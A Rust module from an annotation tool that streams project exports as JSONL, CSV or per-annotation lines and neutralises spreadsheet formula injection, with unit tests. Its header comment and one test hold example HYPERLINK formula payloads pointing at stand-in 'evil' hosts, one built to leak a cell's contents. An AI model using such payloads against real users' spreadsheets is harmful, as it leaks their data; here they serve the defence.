//! Exports: a project's items with every annotation, as JSONL or CSV, produced page by page
//! so memory stays flat at any size; and the `annotations` format, one
//! `{"item", "annotator", "label"}` line per annotation, the input of `mirrorset stats
//! agreement` and `aggregate` (see `annotation_lines` for its rules).
//!
//! CSV and formula injection: imported text reaches spreadsheets through the CSV export, and a
//! cell such as `=HYPERLINK("http://evil/?"&A1,"click")` runs as a formula when the file is
//! opened in Excel, LibreOffice or Google Sheets. By default every CSV cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'` (OWASP's recommendation:
//! spreadsheets show it as text and hide the quote), and every cell is quoted, so a `;` inside
//! a cell cannot start a new cell in locales whose spreadsheets split on `;`. The rule applies
//! to every cell alike, data or not: a text or label `-3` is exported as `'-3`. Our own numeric
//! columns never start with a trigger (ids, counts and times are non-negative, weights
//! positive) and `meta` is a JSON object (`{...}`), so in practice it touches imported text,
//! ids, sources, licences, usernames and label names only. `formulas=keep` exports the raw
//! values, for programs (not spreadsheets) that read the file; JSONL is never changed.
use axum::body::Bytes;
use futures::Stream;
use tokio_util::sync::CancellationToken;
use serde::Serialize;
use serde_json::{json, Value};

use crate::error::AppError;
use crate::store::export::{export_page, ExportAnnotation, ExportItem, ExportPage};
use app::api_types::FinalLabel;
use crate::store::Db;

pub const PAGE_SIZE: i64 = 2000;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExportFormat {
    Jsonl,
    Csv,
    /// One `{"item", "annotator", "label"}` line per rating, for the statistics commands.
    Annotations,
}

impl ExportFormat {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "jsonl" => Some(Self::Jsonl),
            "csv" => Some(Self::Csv),
            "annotations" => Some(Self::Annotations),
            _ => None,
        }
    }
    pub fn content_type(self) -> &'static str {
        match self {
            Self::Jsonl | Self::Annotations => "application/x-ndjson",
            Self::Csv => "text/csv; charset=utf-8",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            Self::Jsonl => "jsonl",
            Self::Csv => "csv",
            Self::Annotations => "annotations.jsonl",
        }
    }
}

/// What the CSV export does with cells a spreadsheet would run as formulas.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Formulas {
    /// Prefix them with `'` and quote every cell (the default).
    #[default]
    Neutralise,
    /// Write every value exactly as stored.
    Keep,
}

impl Formulas {
    pub fn parse(s: &str) -> Option<Self> {
        match s {
            "neutralise" => Some(Self::Neutralise),
            "keep" => Some(Self::Keep),
            _ => None,
        }
    }
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP, "CSV Injection").
const FORMULA_TRIGGERS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// The cell as a spreadsheet must see it: with a leading `'` when it starts with a formula
/// trigger, unchanged otherwise.
pub fn neutralise_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(FORMULA_TRIGGERS) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

pub const CSV_HEADER: &[&str] = &[
    "item_id", "id", "kind", "text", "image", "image_sha256", "meta", "weight", "source", "license",
    "label_count", "labeler", "labels", "time_ms", "annotated_at", "updated_at",
    // The item's final label and its provenance (`crate::review::final_label`), repeated on
    // each of its rows.
    "final_labels", "final_source", "posterior", "gold", "review_note",
];

/// The item's final label (see `crate::review`).
fn final_of(item: &ExportItem) -> FinalLabel {
    crate::review::final_label_or_auto(
        crate::review::parse_labels(item.review.decision.as_deref()),
        crate::review::parse_labels(item.gold.as_deref()),
        crate::review::parse_labels(item.review.consensus.as_deref()),
        item.label_count,
        item.k,
        item.review.auto.clone(),
    )
}

/// The export's summary: every item's final label by source, per label, and the expected
/// precision of the auto-accepted part (`prelabels::auto_accept`). Reads the export's own pages,
/// so its counts are the export's by construction.
pub async fn summary(db: &Db, project_id: i64, labels: &[String]) -> Result<app::api_types::ExportSummary, AppError> {
    let strata = crate::store::prelabels::audits_at_switches(db, project_id).await?;
    let mut finals: Vec<(Vec<String>, app::api_types::FinalSource, Option<(i64, String)>)> = Vec::new();
    let mut after = 0;
    loop {
        let page = export_page(db, project_id, after, PAGE_SIZE, false).await?;
        let Some(last) = page.items.last() else { break };
        after = last.id;
        for item in &page.items {
            let f = final_of(item);
            let stratum = if f.source == app::api_types::FinalSource::Auto { item.review.auto_stratum.clone() } else { None };
            finals.push((f.labels.unwrap_or_default(), f.source, stratum));
        }
    }
    Ok(crate::prelabels::auto_accept::summarise(
        labels,
        finals.iter().map(|(l, source, stratum)| crate::prelabels::auto_accept::FinalOf {
            labels: l,
            source: *source,
            stratum: stratum.as_ref().map(|(s, k)| (*s, k.as_str())),
        }),
        &strata,
    ))
}

/// The CSV cells of the final-label columns.
fn final_cells(item: &ExportItem) -> [String; 5] {
    let f = final_of(item);
    [
        f.labels.as_ref().map(|l| l.join("|")).unwrap_or_default(),
        f.provenance(),
        item.review.posterior.map(|p| p.to_string()).unwrap_or_default(),
        item.gold.is_some().to_string(),
        item.review.note.clone().unwrap_or_default(),
    ]
}

/// RFC 3339 in UTC with milliseconds.
pub fn timestamp(ms: i64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp_nanos(ms as i128 * 1_000_000)
        .unwrap_or(time::OffsetDateTime::UNIX_EPOCH);
    let f = time::macros::format_description!(
        "[year]-[month]-[day]T[hour]:[minute]:[second].[subsecond digits:3]Z"
    );
    t.format(&f).unwrap_or_default()
}

fn labels_of(a: &ExportAnnotation) -> Vec<String> {
    serde_json::from_str(&a.labels).unwrap_or_default()
}

/// One JSONL line of the export, serialized straight from the page's rows. A line used to be
/// built as a `serde_json::Value` first (a map, a copy of every string) and then written: at a
/// million items that was most of the export's time. The fields are in the order that map
/// wrote them (sorted by name), so the file is byte for byte what it was; the test
/// `jsonl_lines_are_the_value_built_lines_byte_for_byte` holds the two together.
#[derive(Serialize)]
struct ItemLine<'a> {
    annotations: Vec<AnnotationLine<'a>>,
    final_labels: Option<Vec<String>>,
    final_source: String,
    gold: bool,
    id: Option<&'a str>,
    image: Option<&'a str>,
    image_sha256: Option<&'a str>,
    item_id: i64,
    kind: &'a str,
    label_count: i64,
    license: Option<&'a str>,
    /// Parsed, so its keys come out sorted whatever order the import stored them in.
    meta: Value,
    posterior: Option<f64>,
    review_note: Option<&'a str>,
    source: Option<&'a str>,
    text: Option<&'a str>,
    weight: f64,
}

#[derive(Serialize)]
struct AnnotationLine<'a> {
    created_at: String,
    labeler: &'a str,
    labels: Vec<String>,
    time_ms: i64,
    updated_at: String,
}

fn item_line<'a>(item: &'a ExportItem, annotations: &[&'a ExportAnnotation]) -> ItemLine<'a> {
    let fin = final_of(item);
    ItemLine {
        annotations: annotations
            .iter()
            .map(|a| AnnotationLine {
                created_at: timestamp(a.created_at),
                labeler: &a.username,
                labels: labels_of(a),
                time_ms: a.time_ms,
                updated_at: timestamp(a.updated_at),
            })
            .collect(),
        final_source: fin.provenance(),
        final_labels: fin.labels,
        gold: item.gold.is_some(),
        id: item.external_id.as_deref(),
        image: item.image_name.as_deref(),
        image_sha256: item.image_sha256.as_deref(),
        item_id: item.id,
        kind: &item.kind,
        label_count: item.label_count,
        license: item.license.as_deref(),
        meta: serde_json::from_str::<Value>(&item.meta).unwrap_or(Value::Null),
        posterior: item.review.posterior,
        review_note: item.review.note.as_deref(),
        source: item.source.as_deref(),
        text: item.text.as_deref(),
        weight: item.weight,
    }
}

/// Writes one CSV record, neutralising formula cells unless told to keep them.
fn write_csv_record<'a>(
    w: &mut csv::Writer<Vec<u8>>,
    cells: impl IntoIterator<Item = &'a str>,
    formulas: Formulas,
) {
    let _ = match formulas {
        Formulas::Keep => w.write_record(cells),
        Formulas::Neutralise => w.write_record(cells.into_iter().map(|c| neutralise_cell(c).into_owned())),
    };
}

fn csv_writer(formulas: Formulas) -> csv::Writer<Vec<u8>> {
    let quote = match formulas {
        // Quoting every cell keeps a `;` inside a cell from splitting it where spreadsheets
        // use `;` as the separator (and so from starting an unneutralised cell).
        Formulas::Neutralise => csv::QuoteStyle::Always,
        Formulas::Keep => csv::QuoteStyle::Necessary,
    };
    csv::WriterBuilder::new().quote_style(quote).from_writer(Vec::new())
}

/// What the `annotations` format needs to know of the project: a multi-label annotation
/// becomes one present/absent line per label of the project.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LabelSchema {
    pub multi: bool,
    /// The project's label names, in its order.
    pub labels: Vec<String>,
}

/// The value of a multi-label line: whether the annotator chose the label.
pub const PRESENT: &str = "present";
pub const ABSENT: &str = "absent";

/// The `annotations` lines of one page, in item then annotation order.
///
/// - `item` is the item's numeric id (`item_id` in the other formats), never its external id:
///   external ids are optional, and an external id `"7"` and the numeric id 7 of an item
///   without one would read as the same item (`mirrorset stats` takes `7` and `"7"` alike), so
///   the statistics would silently merge two items. The external id rides along as `id`
///   (null when the item has none), which the statistics commands ignore.
/// - Single-label projects: `label` is the chosen label.
/// - Multi-label projects: one line per label of the project (and per label an annotation of
///   the item uses that the project no longer lists, so no answer is lost), with `item`
///   `"<item id>/<label>"`, `label` `"present"` or `"absent"`, and the label itself as
///   `for_label`. Each (item, label) is then a unit that every annotator of the item rated
///   present or absent: the file gives alpha over all such decisions, and the lines of one
///   `for_label` give that label's one-vs-rest agreement. The item id is digits, so the first
///   `/` splits the key even when a label name holds one.
pub fn annotation_lines(page: &ExportPage, schema: &LabelSchema) -> Vec<u8> {
    let mut out = Vec::with_capacity(page.annotations.len() * 80);
    let mut write = |line: Value| {
        out.extend_from_slice(line.to_string().as_bytes());
        out.push(b'\n');
    };
    let mut annotations = page.annotations.iter().peekable();
    for item in &page.items {
        let mut mine = Vec::new();
        while let Some(a) = annotations.next_if(|a| a.item_id <= item.id) {
            if a.item_id == item.id {
                mine.push((a, labels_of(a)));
            }
        }
        if !schema.multi {
            for (a, labels) in &mine {
                // Validation stores exactly one label per single-label annotation.
                if let [label] = labels.as_slice() {
                    write(json!({"item": item.id, "annotator": a.username, "label": label,
                                 "item_id": item.id, "id": item.external_id}));
                }
            }
            continue;
        }
        let mut universe: Vec<&str> = schema.labels.iter().map(String::as_str).collect();
        for (_, labels) in &mine {
            for l in labels {
                if !universe.contains(&l.as_str()) {
                    universe.push(l);
                }
            }
        }
        for label in universe {
            for (a, labels) in &mine {
                let value = if labels.iter().any(|l| l == label) { PRESENT } else { ABSENT };
                write(json!({"item": format!("{}/{label}", item.id), "annotator": a.username, "label": value,
                             "item_id": item.id, "id": item.external_id, "for_label": label}));
            }
        }
    }
    out
}

/// Formats one page; the header comes with the first CSV page.
pub fn format_page(page: &ExportPage, format: ExportFormat, formulas: Formulas, schema: &LabelSchema, first: bool) -> Vec<u8> {
    if format == ExportFormat::Annotations {
        return annotation_lines(page, schema);
    }
    let mut out = Vec::with_capacity(page.items.len() * 256);
    let mut csv_writer = (format == ExportFormat::Csv).then(|| csv_writer(formulas));
    if let (Some(w), true) = (csv_writer.as_mut(), first) {
        write_csv_record(w, CSV_HEADER.iter().copied(), formulas);
    }
    let mut annotations = page.annotations.iter().peekable();
    for item in &page.items {
        let mut mine = Vec::new();
        while let Some(a) = annotations.next_if(|a| a.item_id <= item.id) {
            if a.item_id == item.id {
                mine.push(a);
            }
        }
        match csv_writer.as_mut() {
            None => {
                // Writing into a Vec cannot fail, and every map key here is a string.
                serde_json::to_writer(&mut out, &item_line(item, &mine)).expect("an export line serializes");
                out.push(b'\n');
            }
            Some(w) => {
                let base = [
                    item.id.to_string(),
                    item.external_id.clone().unwrap_or_default(),
                    item.kind.clone(),
                    item.text.clone().unwrap_or_default(),
                    item.image_name.clone().unwrap_or_default(),
                    item.image_sha256.clone().unwrap_or_default(),
                    item.meta.clone(),
                    item.weight.to_string(),
                    item.source.clone().unwrap_or_default(),
                    item.license.clone().unwrap_or_default(),
                    item.label_count.to_string(),
                ];
                let fin = final_cells(item);
                if mine.is_empty() {
                    let none = ["", "", "", "", ""];
                    write_csv_record(w, base.iter().map(String::as_str).chain(none).chain(fin.iter().map(String::as_str)), formulas);
                }
                for a in mine {
                    let extra = [
                        a.username.clone(),
                        labels_of(a).join("|"),
                        a.time_ms.to_string(),
                        timestamp(a.created_at),
                        timestamp(a.updated_at),
                    ];
                    write_csv_record(w, base.iter().chain(extra.iter()).chain(fin.iter()).map(String::as_str), formulas);
                }
            }
        }
    }
    if let Some(w) = csv_writer {
        out = w.into_inner().unwrap_or_default();
    }
    out
}

/// The project's pages in order, read by a task of their own one page ahead of the reader:
/// page n + 1 is read (on SQLite, on a blocking thread) while page n is formatted and sent, so
/// the two use both cores: one after the other they kept one core busy, and the 834 MiB JSONL
/// export of 3,000,000 annotations took 9.1–9.4 s; overlapped, 6.4–7.0 s (docs/bench.md,
/// session 31). The task ends after the last page (one shorter than `PAGE_SIZE`), after an
/// error, or when the receiver is dropped (the download stopped).
fn read_ahead(db: Db, project_id: i64, complete_only: bool) -> tokio::sync::mpsc::Receiver<Result<ExportPage, AppError>> {
    let (tx, rx) = tokio::sync::mpsc::channel(1);
    tokio::spawn(async move {
        let mut after = 0;
        loop {
            let page = export_page(&db, project_id, after, PAGE_SIZE, complete_only).await;
            let next = match &page {
                Ok(p) if p.items.len() as i64 == PAGE_SIZE => p.items.last().map(|i| i.id),
                _ => None,
            };
            if tx.send(page).await.is_err() {
                return;
            }
            match next {
                Some(id) => after = id,
                None => return,
            }
        }
    });
    rx
}

/// The whole export as a stream of chunks, one page each. When `cancel` fires (the server
/// shuts down) the stream ends with an error, so the client sees a broken download rather
/// than a file that looks complete; so does a reader that stops before the last page.
pub fn export_stream(
    db: Db,
    project_id: i64,
    format: ExportFormat,
    formulas: Formulas,
    schema: LabelSchema,
    complete_only: bool,
    cancel: CancellationToken,
) -> impl Stream<Item = Result<Bytes, AppError>> + Send + 'static {
    struct State {
        pages: tokio::sync::mpsc::Receiver<Result<ExportPage, AppError>>,
        first: bool,
        done: bool,
        schema: LabelSchema,
        cancel: CancellationToken,
    }
    let pages = read_ahead(db, project_id, complete_only);
    let init = State { pages, first: true, done: false, schema, cancel };
    futures::stream::unfold(init, move |mut st| async move {
        loop {
            if st.done {
                return None;
            }
            if st.cancel.is_cancelled() {
                st.done = true;
                return Some((Err(AppError::Unavailable {
                    message: "the server is shutting down; the export was cut short".into(),
                    retry_after_secs: 30,
                }), st));
            }
            let Some(page) = st.pages.recv().await else {
                st.done = true;
                return Some((Err(anyhow::anyhow!("the export's reader stopped before the last page").into()), st));
            };
            match page {
                Err(e) => {
                    st.done = true;
                    return Some((Err(e), st));
                }
                Ok(page) => {
                    let bytes = format_page(&page, format, formulas, &st.schema, st.first);
                    st.first = false;
                    st.done = page.items.len() as i64 != PAGE_SIZE;
                    if !bytes.is_empty() {
                        return Some((Ok(Bytes::from(bytes)), st));
                    }
                }
            }
        }
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::export::ExportReview;

    fn item(id: i64) -> ExportItem {
        ExportItem {
            id,
            external_id: Some(format!("x{id}")),
            kind: "text".into(),
            text: Some("hello, \"world\"\nline two".into()),
            image_sha256: None,
            image_name: None,
            meta: r#"{"region":"eu"}"#.into(),
            weight: 2.0,
            source: None,
            license: Some("cc-by".into()),
            label_count: 1,
            gold: None,
            k: 1,
            review: Default::default(),
        }
    }

    fn ann(item_id: i64, who: &str) -> ExportAnnotation {
        ExportAnnotation {
            item_id,
            username: who.into(),
            labels: r#"["pos","neg"]"#.into(),
            time_ms: 1500,
            created_at: 1_700_000_000_000,
            updated_at: 1_700_000_000_500,
        }
    }

    #[tokio::test]
    async fn a_shutdown_cuts_the_stream_with_an_error() {
        use futures::StreamExt;
        let dir = tempfile::tempdir().unwrap();
        let db = Db::connect(&format!("sqlite://{}", dir.path().join("e.db").display())).await.unwrap();
        let cancel = CancellationToken::new();
        // Before the shutdown: an empty project streams to its end without an error.
        let all: Vec<_> = export_stream(db.clone(), 1, ExportFormat::Jsonl, Formulas::default(), LabelSchema::default(), false, cancel.clone()).collect().await;
        assert!(all.iter().all(|r| r.is_ok()));
        cancel.cancel();
        let mut stream = Box::pin(export_stream(db, 1, ExportFormat::Jsonl, Formulas::default(), LabelSchema::default(), false, cancel));
        assert!(matches!(stream.next().await, Some(Err(AppError::Unavailable { .. }))));
        assert!(stream.next().await.is_none());
    }

    /// How a line was built before `ItemLine`: the oracle of the test below.
    fn item_json(item: &ExportItem, annotations: &[&ExportAnnotation]) -> Value {
        let fin = final_of(item);
        json!({
            "item_id": item.id,
            "id": item.external_id,
            "kind": item.kind,
            "text": item.text,
            "image": item.image_name,
            "image_sha256": item.image_sha256,
            "meta": serde_json::from_str::<Value>(&item.meta).unwrap_or(Value::Null),
            "weight": item.weight,
            "source": item.source,
            "license": item.license,
            "label_count": item.label_count,
            "annotations": annotations.iter().map(|a| json!({
                "labeler": a.username,
                "labels": labels_of(a),
                "time_ms": a.time_ms,
                "created_at": timestamp(a.created_at),
                "updated_at": timestamp(a.updated_at),
            })).collect::<Vec<_>>(),
            "final_labels": fin.labels,
            "final_source": fin.provenance(),
            "posterior": item.review.posterior,
            "gold": item.gold.is_some(),
            "review_note": item.review.note,
        })
    }

    /// Every field empty and full, every source of a final label, text that needs escaping,
    /// meta keys out of order, a weight that is not a number: the lines are the old ones.
    #[test]
    fn jsonl_lines_are_the_value_built_lines_byte_for_byte() {
        let mut items = vec![item(1), item(2), item(3), item(4), item(5)];
        items[0].text = Some("tab\t quote\" backslash\\ nul\u{0} é 😀 \u{7f} \u{2028}".into());
        items[0].meta = r#"{"z":1,"a":{"y":[1,2.5,null],"b":"x"}}"#.into();
        items[1] = ExportItem {
            external_id: None,
            kind: "image".into(),
            text: None,
            image_sha256: Some("ab".repeat(32)),
            image_name: Some("cat.png".into()),
            meta: "not json".into(),
            weight: f64::NAN,
            license: None,
            gold: Some(r#"["pos"]"#.into()),
            ..item(2)
        };
        items[2].review = ExportReview {
            decision: Some(r#"["neg"]"#.into()),
            note: Some("checked twice".into()),
            consensus: Some(r#"["pos"]"#.into()),
            posterior: Some(0.8125),
            ..Default::default()
        };
        items[3].review = ExportReview { consensus: Some(r#"["pos","neg"]"#.into()), posterior: Some(1e-300), ..Default::default() };
        items[4].label_count = 0;
        items[4].weight = 1e21;
        let annotations = vec![ann(1, "ann"), ann(1, "bob \"the\" labeler"), ann(3, "cy"), ann(4, "dee")];
        let page = ExportPage { items, annotations };
        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true)).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), page.items.len());
        for (line, item) in lines.iter().zip(&page.items) {
            let mine: Vec<&ExportAnnotation> = page.annotations.iter().filter(|a| a.item_id == item.id).collect();
            assert_eq!(*line, item_json(item, &mine).to_string(), "item {}", item.id);
        }
    }

    #[test]
    fn jsonl_lists_each_items_annotations() {
        let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true)).unwrap();
        let lines: Vec<Value> = text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0]["annotations"].as_array().unwrap().len(), 2);
        assert_eq!(lines[0]["annotations"][1]["labeler"], "bob");
        assert_eq!(lines[0]["annotations"][0]["created_at"], "2023-11-14T22:13:20.000Z");
        assert_eq!(lines[0]["meta"]["region"], "eu");
        assert_eq!(lines[1]["annotations"].as_array().unwrap().len(), 0);
    }

    #[test]
    fn csv_has_a_row_per_annotation_and_quotes_text() {
        let page = ExportPage { items: vec![item(1), item(2)], annotations: vec![ann(1, "ann"), ann(1, "bob")] };
        let bytes = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, &LabelSchema::default(), true);
        let mut r = csv::Reader::from_reader(bytes.as_slice());
        assert_eq!(r.headers().unwrap().len(), CSV_HEADER.len());
        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
        assert_eq!(rows.len(), 3);
        assert_eq!(&rows[0][3], "hello, \"world\"\nline two");
        assert_eq!(&rows[1][11], "bob");
        assert_eq!(&rows[1][12], "pos|neg");
        assert_eq!(&rows[2][11], "");
    }

    #[test]
    fn cells_starting_with_a_formula_trigger_get_a_quote() {
        for (cell, want) in [
            ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
            ("+1", "'+1"),
            ("-2", "'-2"),
            ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("=", "'="),
        ] {
            assert_eq!(neutralise_cell(cell), want, "{cell:?}");
        }
        // Triggers anywhere but the first character, and everything else, stay as they are.
        for cell in ["", "plain", "a=b", "1-2", " =1", "'=1", "{\"x\":-3}", "2023-11-14T22:13:20.000Z", "\nx", "3.5"] {
            assert_eq!(neutralise_cell(cell), cell, "{cell:?}");
        }
    }

    fn with_text(id: i64, text: &str) -> ExportItem {
        ExportItem { text: Some(text.into()), external_id: None, license: None, ..item(id) }
    }

    #[test]
    fn csv_export_neutralises_formulas_unless_told_to_keep_them() {
        let texts = ["=1+1", "-3", "fine", "a;=1"];
        let page = ExportPage {
            items: texts.iter().enumerate().map(|(i, t)| with_text(i as i64 + 1, t)).collect(),
            annotations: vec![ExportAnnotation { username: "@bob".into(), ..ann(1, "x") }],
        };
        let read = |bytes: Vec<u8>| -> Vec<csv::StringRecord> {
            csv::Reader::from_reader(bytes.as_slice()).records().map(|r| r.unwrap()).collect()
        };
        let safe = format_page(&page, ExportFormat::Csv, Formulas::Neutralise, &LabelSchema::default(), true);
        let rows = read(safe.clone());
        assert_eq!(rows.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), ["'=1+1", "'-3", "fine", "a;=1"]);
        assert_eq!(&rows[0][11], "'@bob");
        // Every cell is quoted, so `a;=1` stays one cell for spreadsheets that split on `;`.
        let text = String::from_utf8(safe).unwrap();
        assert!(text.starts_with("\"item_id\",\"id\","), "{text}");
        assert!(text.contains(",\"a;=1\","), "{text}");

        let raw = read(format_page(&page, ExportFormat::Csv, Formulas::Keep, &LabelSchema::default(), true));
        assert_eq!(raw.iter().map(|r| r[3].to_string()).collect::<Vec<_>>(), texts);
        assert_eq!(&raw[0][11], "@bob");
    }

    #[test]
    fn jsonl_is_never_neutralised() {
        let page = ExportPage { items: vec![with_text(1, "=1+1")], annotations: vec![] };
        let text = String::from_utf8(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true)).unwrap();
        let v: Value = serde_json::from_str(text.trim()).unwrap();
        assert_eq!(v["text"], "=1+1");
    }

    fn lines(bytes: Vec<u8>) -> Vec<Value> {
        String::from_utf8(bytes).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect()
    }

    #[test]
    fn annotations_single_label_one_line_per_annotation_keyed_by_item_id() {
        let one = |item_id, who: &str, label: &str| ExportAnnotation {
            labels: format!("[\"{label}\"]"),
            ..ann(item_id, who)
        };
        let page = ExportPage {
            items: vec![item(1), ExportItem { external_id: None, ..item(2) }, item(3)],
            annotations: vec![one(1, "ann", "pos"), one(1, "bob", "neg"), one(2, "ann", "pos")],
        };
        let schema = LabelSchema { multi: false, labels: vec!["pos".into(), "neg".into()] };
        let got = lines(format_page(&page, ExportFormat::Annotations, Formulas::Neutralise, &schema, true));
        assert_eq!(
            got,
            [
                json!({"item": 1, "annotator": "ann", "label": "pos", "item_id": 1, "id": "x1"}),
                json!({"item": 1, "annotator": "bob", "label": "neg", "item_id": 1, "id": "x1"}),
                json!({"item": 2, "annotator": "ann", "label": "pos", "item_id": 2, "id": null}),
            ]
        );
    }

    #[test]
    fn annotations_multi_label_one_present_or_absent_line_per_label() {
        // ann chose pos and neg, bob chose nothing of the schema but a label since dropped.
        let page = ExportPage {
            items: vec![item(4)],
            annotations: vec![ann(4, "ann"), ExportAnnotation { labels: r#"["old/x"]"#.into(), ..ann(4, "bob") }],
        };
        let schema = LabelSchema { multi: true, labels: vec!["pos".into(), "neg".into(), "other".into()] };
        let got = lines(annotation_lines(&page, &schema));
        let brief: Vec<(String, String, String, String)> = got
            .iter()
            .map(|l| {
                assert_eq!(l["item_id"], 4);
                assert_eq!(l["id"], "x4");
                let s = |k: &str| l[k].as_str().unwrap().to_string();
                (s("item"), s("annotator"), s("label"), s("for_label"))
            })
            .collect();
        let t = |i: &str, a: &str, v: &str, f: &str| (i.to_string(), a.to_string(), v.to_string(), f.to_string());
        assert_eq!(
            brief,
            [
                t("4/pos", "ann", "present", "pos"),
                t("4/pos", "bob", "absent", "pos"),
                t("4/neg", "ann", "present", "neg"),
                t("4/neg", "bob", "absent", "neg"),
                t("4/other", "ann", "absent", "other"),
                t("4/other", "bob", "absent", "other"),
                t("4/old/x", "ann", "absent", "old/x"),
                t("4/old/x", "bob", "present", "old/x"),
            ]
        );
    }

    #[test]
    fn final_label_columns_follow_the_precedence() {
        use crate::store::export::ExportReview;
        let review = |d: Option<&str>, c: Option<&str>, note: Option<&str>| ExportReview {
            consensus: c.map(Into::into),
            posterior: c.map(|_| 0.75),
            decision: d.map(Into::into),
            note: note.map(Into::into),
            ..Default::default()
        };
        let auto = |c: Option<&str>| ExportReview {
            auto: Some(crate::review::AutoLabel { labels: vec!["neg".into()], source: "m@1".into() }),
            ..review(None, c, None)
        };
        let page = ExportPage {
            items: vec![
                ExportItem { review: review(Some(r#"["neg"]"#), Some(r#"["pos"]"#), Some("typo")), gold: Some(r#"["pos"]"#.into()), ..item(1) },
                ExportItem { review: review(None, Some(r#"["pos"]"#), None), gold: Some(r#"["neg"]"#.into()), ..item(2) },
                ExportItem { review: review(None, Some(r#"["pos"]"#), None), ..item(3) },
                // A consensus before the item has its k labels is no final label.
                ExportItem { review: review(None, Some(r#"["pos"]"#), None), k: 3, ..item(4) },
                item(5),
                // An auto-accepted pre-label is the final label only where no person gave one.
                ExportItem { review: auto(None), ..item(6) },
                ExportItem { review: auto(Some(r#"["pos"]"#)), ..item(7) },
                ExportItem { review: auto(Some(r#"["pos"]"#)), k: 3, ..item(8) },
            ],
            annotations: vec![ann(1, "ann")],
        };
        let got: Vec<Value> = lines(format_page(&page, ExportFormat::Jsonl, Formulas::Neutralise, &LabelSchema::default(), true))
            .into_iter()
            .map(|l| json!([l["final_labels"], l["final_source"], l["posterior"], l["gold"], l["review_note"]]))
            .collect();
        assert_eq!(
            got,
            [
                json!([["neg"], "adjudicated", 0.75, true, "typo"]),
                json!([["neg"], "gold", 0.75, true, null]),
                json!([["pos"], "consensus", 0.75, false, null]),
                json!([null, "none", 0.75, false, null]),
                json!([null, "none", null, false, null]),
                json!([["neg"], "auto:m@1", null, false, null]),
                json!([["pos"], "consensus", 0.75, false, null]),
                json!([["neg"], "auto:m@1", 0.75, false, null]),
            ]
        );
        let bytes = format_page(&page, ExportFormat::Csv, Formulas::Keep, &LabelSchema::default(), true);
        let mut r = csv::Reader::from_reader(bytes.as_slice());
        let header: Vec<String> = r.headers().unwrap().iter().map(String::from).collect();
        assert_eq!(&header[16..], ["final_labels", "final_source", "posterior", "gold", "review_note"]);
        let rows: Vec<Vec<String>> = r.records().map(|r| r.unwrap().iter().skip(16).map(String::from).collect()).collect();
        assert_eq!(rows[0], ["neg", "adjudicated", "0.75", "true", "typo"]);
        assert_eq!(rows[4], ["", "none", "", "false", ""]);
        assert_eq!(rows[5], ["neg", "auto:m@1", "", "false", ""]);
    }

    #[test]
    fn annotations_format_name() {
        assert_eq!(ExportFormat::parse("annotations"), Some(ExportFormat::Annotations));
        assert_eq!(ExportFormat::Annotations.content_type(), "application/x-ndjson");
        assert_eq!(ExportFormat::Annotations.extension(), "annotations.jsonl");
    }

    #[test]
    fn formulas_parameter_values() {
        assert_eq!(Formulas::parse("keep"), Some(Formulas::Keep));
        assert_eq!(Formulas::parse("neutralise"), Some(Formulas::Neutralise));
        assert_eq!(Formulas::parse("KEEP"), None);
        assert_eq!(Formulas::default(), Formulas::Neutralise);
    }
}
